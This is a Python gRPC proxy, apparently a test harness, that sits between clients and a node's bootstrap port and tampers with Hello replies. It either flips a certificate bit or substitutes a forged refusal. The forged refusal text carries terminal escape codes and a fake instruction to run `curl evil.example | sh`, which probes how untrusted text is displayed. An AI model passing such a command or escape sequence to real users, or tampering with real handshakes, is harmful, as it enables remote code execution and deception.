"""A man in the middle of the bootstrap port that corrupts or forges Hello replies (not a test module).

    python hello_mitm_proc.py LISTEN_PORT UPSTREAM_TARGET MODE SECONDS

Listens on 127.0.0.1:LISTEN_PORT and forwards every Bootstrap call, byte for byte, to UPSTREAM_TARGET (the
real node's bootstrap port). For SECONDS seconds after the first Hello it passes on (forever if SECONDS
is negative) it tampers with each Hello reply, then stops tampering and forwards faithfully:

* ``flip``: one bit of the reply flipped, inside the certificate (the reply still parses);
* ``refuse``: the real reply replaced by a forged refusal naming ``mr_enclave``, with attacker-chosen text
  (terminal escapes, a bell, a fake instruction, 5,000 characters).

Prints ``LISTENING`` once up and, on SIGTERM, ``TAMPERED <n> FORWARDED <n>``.
"""

from __future__ import annotations

import signal
import sys
import threading
import time
from concurrent import futures
from typing import Any

import grpc

from fldsl.runtime.transport import fldsl_pb2 as pb

SERVICE = "/fldsl.transport.v1.Bootstrap/"
HELLO = SERVICE + "Hello"
FORGED_REASON = ("refused by shop.trainer: mr_enclave expected " + "ab" * 32 + "\x1b[2J\x1b[31m YOUR NODE IS "
                 "COMPROMISED: run `curl evil.example | sh`\x07\r\n" + "A" * 5000)
B64 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def flip_one_bit(reply: bytes) -> bytes:
    """Flip the low bit of one base64 character in the middle of the certificate, keeping it base64."""
    start = reply.find(b"-----BEGIN CERTIFICATE-----")
    if start < 0:
        return reply[:-1] + bytes([reply[-1] ^ 1]) if reply else reply
    for i in range(start + 400, len(reply)):
        if reply[i] in B64 and (reply[i] ^ 1) in B64:
            return reply[:i] + bytes([reply[i] ^ 1]) + reply[i + 1 :]
    return reply


def forged_refusal() -> bytes:
    return pb.HelloReply(ok=False, reason=FORGED_REASON, field="mr_enclave",
                         node_id="shop.trainer").SerializeToString()


class Forwarder(grpc.GenericRpcHandler):
    def __init__(self, upstream: grpc.Channel, mode: str, seconds: float) -> None:
        self.upstream = upstream
        self.mode = mode
        self.seconds = seconds
        self.first: float | None = None
        self.counts = {"tampered": 0, "forwarded": 0}
        self.lock = threading.Lock()

    def service(self, details: Any) -> grpc.RpcMethodHandler | None:
        method = details.method
        if not method.startswith(SERVICE):
            return None
        return grpc.unary_unary_rpc_method_handler(lambda req, ctx: self.forward(method, req, ctx))

    def tampering(self) -> bool:
        with self.lock:
            if self.first is None:
                self.first = time.monotonic()
            return self.seconds < 0 or time.monotonic() - self.first < self.seconds

    def forward(self, method: str, request: bytes, context: grpc.ServicerContext) -> bytes:
        try:
            reply = self.upstream.unary_unary(method)(request, timeout=10)
        except grpc.RpcError as e:
            context.abort(e.code(), e.details() or "")
        if method != HELLO or not self.tampering():
            self.counts["forwarded"] += 1
            return reply
        self.counts["tampered"] += 1
        return flip_one_bit(reply) if self.mode == "flip" else forged_refusal()


def main() -> int:
    port, upstream, mode, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    with grpc.insecure_channel(upstream) as channel:
        handler = Forwarder(channel, mode, seconds)
        server = grpc.server(futures.ThreadPoolExecutor(8))
        server.add_generic_rpc_handlers((handler,))
        server.add_insecure_port(f"127.0.0.1:{port}")
        server.start()
        print("LISTENING", flush=True)
        while not stop.wait(0.1):
            pass
        server.stop(0)
    print(f"TAMPERED {handler.counts['tampered']} FORWARDED {handler.counts['forwarded']}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
